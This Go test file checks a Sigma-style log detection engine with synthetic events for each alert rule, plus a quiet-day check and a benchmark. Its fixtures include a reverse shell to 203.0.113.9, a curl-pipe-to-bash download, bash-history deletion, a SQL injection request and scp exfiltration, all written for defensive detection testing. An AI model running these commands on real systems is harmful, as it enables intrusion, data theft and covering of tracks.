package sigma_test

import (
	"fmt"
	"slices"
	"testing"
	"time"

	"kakusho/event"
	"kakusho/sigma"
)

// told is an event as a door makes it of a program's line.
func told(app, text string) event.Event {
	e := event.Event{Device: "CASE-S1", Text: text, Fields: fields{event.App: app}, Format: "rfc5424"}
	event.Classify(&e)
	return e
}

func many(n int, make func(i int) event.Event) (out []event.Event) {
	for i := range n {
		out = append(out, make(i))
	}
	return out
}

func one(e ...event.Event) []event.Event { return e }

func night(e event.Event) event.Event {
	e.At = at.Add(12 * time.Hour) // midnight in Tokyo
	return e
}

func failed(account, source string) event.Event {
	return told("sshd", "Failed password for "+account+" from "+source+" port 50022 ssh2")
}

func accepted(account, source string) event.Event {
	return told("sshd", "Accepted publickey for "+account+" from "+source+" port 50022 ssh2: ED25519 SHA256:x")
}

func of(class event.Class, account, object string) event.Event {
	return event.Event{Class: class, Account: account, Object: object, Device: "CASE-S1", Result: event.Success}
}

// provoked are events that each rule must find, ten seconds apart at the most.
func provoked() map[string][]event.Event {
	fail := func(n int) []event.Event { return many(n, func(int) event.Event { return failed("taro", "10.0.0.9") }) }
	virus := func(device string) event.Event {
		e := of(event.Malware, "", "Eicar-Test-Signature")
		e.Device = device
		return e
	}
	denied := of(event.Inquiry, "taro", "番号1")
	denied.Result = event.Denied
	return map[string][]event.Event{
		"login_failures_repeated":    fail(10),
		"login_failures_from_source": many(30, func(i int) event.Event { return failed(fmt.Sprint("u", i%3), "10.0.0.9") }),
		"password_spraying":          many(6, func(i int) event.Event { return failed(fmt.Sprint("u", i), "10.0.0.9") }),
		"login_after_failures":       append(fail(10), accepted("taro", "10.0.0.9")),
		"login_from_many_sources":    many(4, func(i int) event.Event { return accepted("taro", fmt.Sprint("10.0.0.", i)) }),
		"login_root_remote":          one(accepted("root", "10.0.0.9")),
		"login_from_outside":         one(accepted("taro", "203.0.113.9")),
		"login_at_night":             one(night(accepted("taro", "10.0.0.9"))),
		"privilege_at_night":         one(night(told("sudo", "taro : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/less /etc/hosts"))),
		"privilege_denied":           one(told("sudo", "taro : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh")),
		"privilege_failures_repeated": many(5, func(int) event.Event {
			return told("sudo", "taro : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh")
		}),
		"intrusion_then_privilege": append(fail(10), told("sudo", "taro : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh")),
		"account_created":          one(told("useradd", "new user: name=hanako, UID=1004, GID=1004, home=/home/hanako, shell=/bin/bash, from=none")),
		"administrator_added":      one(told("usermod", "add 'hanako' to group 'sudo'")),
		"account_short_lived": one(told("useradd", "new user: name=hanako, UID=1004, GID=1004, home=/home/hanako, shell=/bin/bash, from=none"),
			told("userdel", "delete user 'hanako'")),
		"password_reset_of_others":    one(event.Event{Class: event.Account, Account: "taro", Object: "hanako", Device: "D", Text: "password changed for hanako"}),
		"audit_configuration_changed": one(event.Event{Class: event.Audit, Device: "D", Text: `type=CONFIG_CHANGE msg=audit(1.2:3): op=remove_rule key="identity" res=1`}),
		"audit_stopped":               one(event.Event{Class: event.Audit, Device: "D", Text: "type=DAEMON_END msg=audit(1.2:3): op=terminate auid=0 res=success"}),
		"log_store_failing":           one(event.Event{Class: event.LogStore, Device: "D", Text: "Audit daemon is low on disk space for logging"}),
		"events_lost":                 one(told("rsyslogd", "imuxsock lost 120 messages from pid 812 due to rate-limiting")),
		"time_changed":                one(event.Event{Class: event.Time, Device: "D", Text: "Changed local time to Tue 2026-11-24 12:00:00 JST", Fields: fields{event.App: "systemd-timedated"}}),
		"restarts_repeated": many(4, func(int) event.Event {
			return told("kernel", "Linux version 6.12.0-1-amd64 (debian-kernel@lists.debian.org)")
		}),
		"start_at_night":             one(night(told("kernel", "Linux version 6.12.0-1-amd64 (debian-kernel@lists.debian.org)"))),
		"malware_found":              one(virus("A")),
		"malware_spreading":          one(virus("A"), virus("B"), virus("C")),
		"malware_protection_stopped": one(told("systemd", "Stopped ClamAV daemon clamd.")),
		"backup_failed":              one(event.Event{Class: event.Backup, Device: "D", Result: event.Failure, Text: "job nightly ended"}),
		"inquiries_in_bulk":          many(100, func(i int) event.Event { return of(event.Inquiry, "taro", fmt.Sprint("番号", i)) }),
		"inquiry_by_many":            many(6, func(i int) event.Event { return of(event.Inquiry, fmt.Sprint("u", i), "番号1") }),
		"inquiry_denied":             one(denied),
		"inquiry_at_night":           one(night(of(event.Inquiry, "taro", "番号1"))),
		"prints_in_bulk":             many(60, func(i int) event.Event { return of(event.Print, "taro", "文書") }),
		"files_in_bulk":              many(300, func(i int) event.Event { return of(event.File, "taro", fmt.Sprint("/data/", i)) }),
		"secret_files_read":          one(of(event.File, "taro", "/etc/shadow")),
		"mail_in_bulk":               many(200, func(i int) event.Event { return of(event.Mail, "taro", "x@example.jp") }),
		"network_scan": many(30, func(i int) event.Event {
			return told("kernel", fmt.Sprintf("[UFW BLOCK] IN=eth0 OUT= MAC=x SRC=10.0.0.9 DST=10.0.1.%d LEN=40 PROTO=TCP SPT=4000 DPT=22", i))
		}),
		"traffic_denied_burst": many(500, func(i int) event.Event {
			return told("kernel", "[UFW BLOCK] IN=eth0 OUT= MAC=x SRC=10.0.0.9 DST=10.0.1.1 LEN=40 PROTO=TCP SPT=4000 DPT=22")
		}),
		"network_forwarding_opened": one(told("sudo", "taro : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/ufw disable")),
		"configuration_at_night":    one(night(of(event.Config, "taro", "/etc/hosts"))),
		"sudoers_changed":           one(of(event.Config, "taro", "/etc/sudoers.d/90-taro")),
		"shell_to_network":          one(event.Event{Class: event.Process, Device: "D", Account: "taro", Text: "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"}),
		"download_and_run":          one(event.Event{Class: event.Process, Device: "D", Account: "taro", Text: "sh -c curl -s http://x.example/i.sh | bash"}),
		"traces_erased":             one(event.Event{Class: event.Process, Device: "D", Account: "taro", Text: "rm -f /home/taro/.bash_history"}),
		"kernel_module_loaded":      one(event.Event{Class: event.Process, Device: "D", Account: "root", Text: "insmod /tmp/x.ko"}),
		"web_attack":                one(event.Event{Class: event.Web, Source: "10.0.0.9", Text: `GET /a.php?id=1%20 UNION SELECT 1,2 HTTP/1.1`}),
		"database_exported":         one(told("sudo", "taro : TTY=pts/0 ; PWD=/ ; USER=postgres ; COMMAND=/usr/bin/pg_dump case")),
		"sent_files_large":          one(event.Event{Class: event.Process, Device: "D", Account: "taro", Text: "scp case.tar taro@203.0.113.9:"}),
	}
}

func TestEachRuleThatShipsFindsWhatItIsFor(t *testing.T) {
	s := sigma.Default()
	provoked := provoked()
	covered := map[event.Class]bool{}
	alerting := 0
	for _, r := range s.Rules() {
		if !r.Title.Complete() || r.Title.JA == r.Title.EN {
			t.Errorf("%s: title in one language only", r.ID)
		}
		if r.Level == sigma.Informational {
			continue
		}
		if !r.Alone {
			t.Errorf("%s is no alert of its own: what it serves wants generate: true", r.ID)
		}
		alerting++
		events, ok := provoked[r.ID]
		for _, e := range events {
			covered[e.Class] = true
		}
		if !ok {
			t.Errorf("%s: nothing provokes it", r.ID)
		}
		found := map[string]bool{}
		d := s.Detector(0)
		for i, e := range events {
			if e.At.IsZero() {
				e.At = at.Add(time.Duration(i) * 500 * time.Millisecond)
			}
			d.Observe(&e, e.At, sigma.Ref{Seq: int64(i)}, func(f sigma.Finding) { found[f.Rule.ID] = true })
		}
		if !found[r.ID] {
			t.Errorf("%s does not find what it is for (class %q, result %q); found: %v", r.ID, events[0].Class, events[0].Result, found)
		}
		// One less of many is not enough.
		if r.Correlates() && len(events) > 1 {
			found := false
			d := s.Detector(0)
			for i, e := range events[1:] {
				e.At = at.Add(time.Duration(i) * 500 * time.Millisecond)
				d.Observe(&e, e.At, sigma.Ref{Seq: int64(i)}, func(f sigma.Finding) { found = found || f.Rule.ID == r.ID })
			}
			if found {
				t.Errorf("%s is found by one event less", r.ID)
			}
		}
	}
	for id := range provoked {
		if _, ok := s.Rule(id); !ok {
			t.Errorf("no rule %s", id)
		}
	}
	for _, c := range event.Classes() {
		if !covered[c] && c != event.Logout {
			t.Errorf("no rule is about class %s", c)
		}
	}
	if alerting < 25 {
		t.Errorf("%d rules raise alerts, want 25", alerting)
	}
}

// ordinary is a day's work; nothing of it is an alert.
func ordinary(i int) event.Event {
	day := []event.Event{
		accepted("taro", "10.0.0.8"), failed("hanako", "10.0.0.7"), told("sudo", "taro : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/apt update"),
		told("CRON", "(root) CMD (test -x /usr/sbin/anacron)"), told("systemd", "Started apt-daily.service - Daily apt download activities."),
		told("chronyd", "Selected source 10.22.0.1 (ntp1.kakuu.example)"), of(event.Inquiry, "taro", fmt.Sprint("番号", i)), of(event.File, "hanako", "/data/報告書.odt"),
		of(event.Print, "hanako", "報告書"), of(event.Mail, "taro", "x@police.example"), {Class: event.Web, Account: "taro", Source: "10.0.0.8", Text: "GET /index.html HTTP/1.1"},
		{Class: event.Network, Source: "10.0.0.8", Object: "10.0.1.1", Result: event.Success, Text: "session built"}, {Class: event.Backup, Result: event.Success, Text: "backup completed"},
		{Class: event.Malware, Text: "main.cvd database is up-to-date"}, told("freshclam", "daily.cld database is up-to-date (version: 27000)"),
		{Class: event.Process, Account: "taro", Text: "less /var/log/syslog"}, told("kernel", "eth0: link up"), told("postgres", "LOG:  checkpoint complete"),
	}
	e := day[i%len(day)]
	e.At = at.Add(time.Duration(i) * 40 * time.Second)
	if h := e.At.Add(9 * time.Hour).Hour(); h < 6 || h >= 21 {
		e.At = e.At.Add(10 * time.Hour)
	}
	return e
}

func TestAnOrdinaryDayRaisesNothing(t *testing.T) {
	s := sigma.Default()
	d := s.Detector(0)
	var found []string
	for i := range 600 {
		e := ordinary(i)
		d.Observe(&e, e.At, sigma.Ref{Seq: int64(i)}, func(f sigma.Finding) { found = append(found, f.Rule.ID+": "+e.Text) })
	}
	slices.Sort(found)
	if found = slices.Compact(found); len(found) > 0 {
		t.Errorf("found %v", found)
	}
}

// BenchmarkObserve is one event under the eyes of every rule that ships.
func BenchmarkObserve(b *testing.B) {
	s := sigma.Default()
	d := s.Detector(0)
	events := many(180, ordinary)
	for i := range events {
		events[i].Fields = fields{event.App: events[i].Fields[event.App], "pid": "1234", "facility": "authpriv", "msgid": "x", "host": "CASE-S1", "region": "north"}
	}
	n := 0
	b.ReportAllocs()
	for b.Loop() {
		e := &events[n%len(events)]
		d.Observe(e, e.At, sigma.Ref{Stream: "3y", Seq: int64(n)}, func(sigma.Finding) {})
		n++
	}
	b.ReportMetric(float64(len(s.Rules())), "rules")
}
